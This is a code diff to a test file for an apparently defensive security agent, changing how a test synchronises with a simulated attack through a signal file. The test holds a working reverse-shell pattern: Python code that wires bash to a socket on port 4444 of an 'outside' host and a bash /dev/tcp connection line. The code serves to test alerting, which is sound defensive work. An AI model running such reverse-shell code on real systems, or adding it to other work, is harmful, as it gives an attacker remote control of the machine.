@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { writeFileSync } from "node:fs";
 import { describe, test } from "node:test";
 import { ControlClient } from "@ringfence/agent/control";
 import { AttackedAgent } from "./harness/attacked-agent.js";
@@ -19,7 +20,7 @@ import socket, sys, threading
 s = socket.create_server(("0.0.0.0", int(sys.argv[1])))
 print("ready", flush=True)
 def take(c):
-    c.settimeout(8); got = b""
+    got = b""
     try:
         while data := c.recv(100): got += data
     except OSError: pass
@@ -28,18 +29,18 @@ while True: threading.Thread(target=take, args=(s.accept()[0],)).start()
 `;
 
 /**
- * A shell on a connection that was opened by its parent. It says "one", waits until it was found, says "two", and tries to
- * connect again; what came of that goes to a file.
+ * A shell on a connection that was opened by its parent. It says "one", waits for a file, says "two", and tries to connect again; what
+ * came of that goes to another file.
  */
 const VICTIM = `
 import os, socket, subprocess, sys
 c = socket.create_connection((sys.argv[1], 4444))
 script = """
 echo one
-sleep 3
+while ! [ -e %s.go ]; do sleep 0.1; done
 echo two
 (exec 3<>/dev/tcp/%s/4444) 2>%s && echo connected >>%s
-""" % (sys.argv[1], sys.argv[2], sys.argv[2])
+""" % (sys.argv[2], sys.argv[1], sys.argv[2], sys.argv[2])
 subprocess.run(["bash", "--norc", "-c", script], stdin=c, stdout=c)
 `;
 
@@ -50,8 +51,10 @@ async function attacked(name: string, attacks: object) {
   const sink = await place.serve("outside", "python3", "-u", "-c", SINK, "4444");
   sink.stdout?.on("data", (text: Buffer) => said.push(text.toString()));
   const file = `${place.agent.folder}/second`;
-  await place.inside("python3", "-c", VICTIM, OUTSIDE, file);
+  const ended = place.inside("python3", "-c", VICTIM, OUTSIDE, file);
   const alert = await place.alert("shell");
+  writeFileSync(`${file}.go`, "");
+  await ended;
   const second = await place.inside("cat", file);
   return { place, alert, said, second };
 }
@@ -95,10 +98,7 @@ describe("the answer to an alert", () => {
     await using _ = place;
     await place.agent.start();
     await place.serve("outside", "python3", "-u", "-c", SINK, "4444");
-    const held = VICTIM.replace("sleep 3", "sleep 8").replace(
-      "import os",
-      'print("ready", flush=True)\nimport os',
-    );
+    const held = VICTIM.replace("import os", 'print("ready", flush=True)\nimport os');
     await place.serve("inside", "python3", "-c", held, OUTSIDE, "/dev/null");
     assert.match((await place.alert("shell")).response, /processes$/);
     using client = await ControlClient.connect(place.agent.socket);
